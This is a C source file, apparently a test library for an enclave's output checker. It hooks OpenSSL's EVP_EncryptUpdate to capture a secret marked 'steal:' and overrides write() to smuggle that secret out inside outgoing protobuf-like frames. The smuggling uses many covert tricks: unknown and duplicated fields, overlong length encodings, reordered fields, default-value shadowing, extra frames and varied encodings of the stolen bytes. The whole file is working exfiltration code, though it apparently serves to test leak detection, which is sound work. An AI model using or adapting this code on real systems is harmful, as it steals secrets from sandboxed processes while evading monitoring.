#define _GNU_SOURCE
#include "leak.h"

#include <dlfcn.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

enum {
    FIRST_LANE = 3,
    PLATFORM_LANE = 60,
    LENGTH_BYTES = 4,
    STOLEN_TEXT_BYTES = 64,
    HEALTH = 0x22,
    BLOCK_ENDED = 0x6a,
    TRANSCRIPT_BYTES = 34,
    FRAME_BYTES_MAX = 8 << 20,
};

static int (*encrypt_update)(void *, unsigned char *, int *, const unsigned char *, int);
static unsigned char stolen[STOLEN_TEXT_BYTES / 2];
static char stolen_text[STOLEN_TEXT_BYTES + 1];
static unsigned health_count, record_count;
static unsigned char changed[FRAME_BYTES_MAX];

// Looked up before the enclave's system calls are taken away.
__attribute__((constructor)) static void find(void) {
    *(void **)&encrypt_update = dlsym(RTLD_NEXT, "EVP_EncryptUpdate");
}

void leak_join(void) {}

// ---- stealing

static int digit(char character) {
    const char *digits = "0123456789abcdef", *found = strchr(digits, character);
    return found && character ? (int)(found - digits) : -1;
}

int EVP_EncryptUpdate(void *context, unsigned char *out, int *written, const unsigned char *in, int size) {
    int result = encrypt_update(context, out, written, in, size);
    static const char word[] = "steal:";
    const unsigned char *start = result == 1 && size > 0 ? memmem(out, (size_t)size, word, sizeof word - 1) : NULL;
    if (start && out + size - start >= (long)(sizeof word - 1 + STOLEN_TEXT_BYTES)) {
        memcpy(stolen_text, start + sizeof word - 1, STOLEN_TEXT_BYTES);
        for (size_t index = 0; index < sizeof stolen; index++) {
            stolen[index] = (unsigned char)(digit(stolen_text[2 * index]) << 4 | digit(stolen_text[2 * index + 1]));
        }
    }
    return result;
}

// ---- saying it

static size_t put(unsigned char *to, const void *bytes, size_t size) {
    memcpy(to, bytes, size);
    return size;
}

// What was stolen, in one of the ways to write it; 0 behind the last.
static size_t written(unsigned way, unsigned char *to) {
    static const char base64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t at = 0;
    switch (way) {
    case 0:
        return put(to, stolen, sizeof stolen);
    case 1:
        return put(to, stolen_text, STOLEN_TEXT_BYTES);
    case 2:
        for (size_t index = 0; index + 3 <= sizeof stolen; index += 3) {
            uint32_t bits = (uint32_t)stolen[index] << 16 | (uint32_t)stolen[index + 1] << 8 | stolen[index + 2];
            for (int shift = 18; shift >= 0; shift -= 6) {
                to[at++] = (unsigned char)base64[bits >> shift & 63];
            }
        }
        return at;
    case 3:
        while (at < sizeof stolen) {
            to[at] = stolen[sizeof stolen - 1 - at];
            at++;
        }
        return at;
    case 4:
        for (size_t index = 0; index < sizeof stolen; index++) {
            at += (size_t)sprintf((char *)to + at, "%d,", stolen[index]);
        }
        return at;
    case 5:
        for (size_t index = 0; index < STOLEN_TEXT_BYTES; index++) {
            to[at++] = (unsigned char)stolen_text[index];
            to[at++] = 0;
        }
        return at;
    case 6:
        while (at < sizeof stolen) {
            to[at] = (unsigned char)~stolen[at];
            at++;
        }
        return at;
    default:
        return 0;
    }
}

static ssize_t say(int descriptor, const void *bytes, size_t size) {
    return syscall(SYS_write, descriptor, bytes, size);
}

static void say_frame(int descriptor, const unsigned char *body, size_t size) {
    unsigned char length[LENGTH_BYTES] = {
        (unsigned char)(size >> 24), (unsigned char)(size >> 16), (unsigned char)(size >> 8), (unsigned char)size};
    (void)say(descriptor, length, sizeof length);
    (void)say(descriptor, body, size);
}

static size_t put_length(unsigned char *to, size_t length) {
    size_t at = 0;
    for (; length > 127; length >>= 7) {
        to[at++] = (unsigned char)(length | 128);
    }
    to[at++] = (unsigned char)length;
    return at;
}

// A message of health that ends with the transcript, with its length in one byte.
static void say_health(int descriptor, const unsigned char *inside, size_t size) {
    unsigned char body[256];
    size_t at = 0;
    body[at++] = HEALTH;
    body[at++] = (unsigned char)size;
    say_frame(descriptor, body, at + put(body + at, inside, size));
}

static void leak_health(int descriptor, const unsigned char *body, size_t size) {
    unsigned char inside[256], more[256];
    size_t before = size - 2 - TRANSCRIPT_BYTES, at;
    memcpy(inside, body + 2, size - 2);
    const unsigned char *transcript = inside + before;
    const unsigned char unknown[] = {0xba, 0x3e, sizeof stolen};
    switch ((enum leak_kinds)(health_count++ % LEAK_KIND_COUNT)) {
    case LEAK_UNKNOWN_FIELD:
        at = put(more, body, size);
        at += put(more + at, unknown, sizeof unknown);
        at += put(more + at, stolen, sizeof stolen);
        say_frame(descriptor, more, at);
        return;
    case LEAK_UNKNOWN_FIELD_INSIDE:
        at = size - 2;
        at += put(inside + at, unknown, sizeof unknown);
        say_health(descriptor, inside, at + put(inside + at, stolen, sizeof stolen));
        return;
    case LEAK_LONG_VALUE:
        inside[before + 1] = TRANSCRIPT_BYTES - 1;
        inside[size - 2] = stolen[0];
        say_health(descriptor, inside, size - 1);
        return;
    case LEAK_LONG_NUMBER:
        more[0] = HEALTH;
        more[1] = (unsigned char)((size - 2) | 128);
        more[2] = 0;
        say_frame(descriptor, more, 3 + put(more + 3, inside, size - 2));
        return;
    case LEAK_FIELD_TWICE:
        at = put(more, inside, size - 2);
        say_health(descriptor, more, at + put(more + at, transcript, TRANSCRIPT_BYTES));
        return;
    case LEAK_OTHER_ORDER:
        at = put(more, transcript, TRANSCRIPT_BYTES);
        say_health(descriptor, more, at + put(more + at, inside, before));
        return;
    case LEAK_SAID_DEFAULT:
        // A height of zero, which goes without saying; the true one behind it is the one that counts.
        more[0] = 0x08;
        more[1] = 0;
        say_health(descriptor, more, 2 + put(more + 2, inside, size - 2));
        return;
    case LEAK_SECOND_FRAME:
        say_frame(descriptor, body, size);
        say_frame(descriptor, body, size);
        return;
    case LEAK_OTHER_LANE:
        say_frame(descriptor, (const unsigned char[]){BLOCK_ENDED, 3, 0x0a, 1, stolen[0]}, 5);
        return;
    case LEAK_OTHER_ANSWER:
        say_frame(descriptor, (const unsigned char[]){0x4a, 0}, 2);
        return;
    case LEAK_FAILURE_NUMBER:
        say_frame(descriptor, (const unsigned char[]){0xfa, 0x03, 3, 0x08, stolen[0] | 128, 31}, 6);
        return;
    case LEAK_IN_A_VALUE:
        memcpy(inside + before + 2, stolen, sizeof stolen);
        say_health(descriptor, inside, size - 2);
        return;
    default:
        say_frame(descriptor, body, size);
    }
}

// The record is the one field of its message: it grows by what was stolen.
static void leak_record(int descriptor, const unsigned char *body, size_t size) {
    size_t at = 1;
    while (at < size && body[at++] & 128) {
    }
    at++;
    while (at < size && body[at++] & 128) {
    }
    unsigned char more[512];
    size_t added = written(record_count++, more), record = size - at + added, inner = 0;
    if (!added && record_count > 1) {
        // Behind the last encoding it is said aloud.
        (void)say(STDERR_FILENO, stolen_text, STOLEN_TEXT_BYTES);
        (void)say(STDERR_FILENO, "\n", 1);
    }
    unsigned char head[16];
    head[inner++] = 0x0a;
    inner += put_length(head + inner, record);
    size_t out = 0;
    changed[out++] = BLOCK_ENDED;
    out += put_length(changed + out, inner + record);
    out += put(changed + out, head, inner);
    out += put(changed + out, body + at, size - at);
    out += put(changed + out, more, added);
    say_frame(descriptor, changed, out);
}

// A frame is written in one piece. One thread alone ends blocks, and one alone tells health.
ssize_t write(int descriptor, const void *bytes, size_t size) {
    const unsigned char *body = (const unsigned char *)bytes + LENGTH_BYTES;
    if (descriptor < FIRST_LANE || descriptor >= PLATFORM_LANE || size < LENGTH_BYTES + 2 || !stolen_text[0]) {
        return say(descriptor, bytes, size);
    }
    if (body[0] == HEALTH && size < 128) {
        leak_health(descriptor, body, size - LENGTH_BYTES);
    } else if (body[0] == BLOCK_ENDED && size < sizeof changed - 1024) {
        leak_record(descriptor, body, size - LENGTH_BYTES);
    } else {
        return say(descriptor, bytes, size);
    }
    return (ssize_t)size;
}
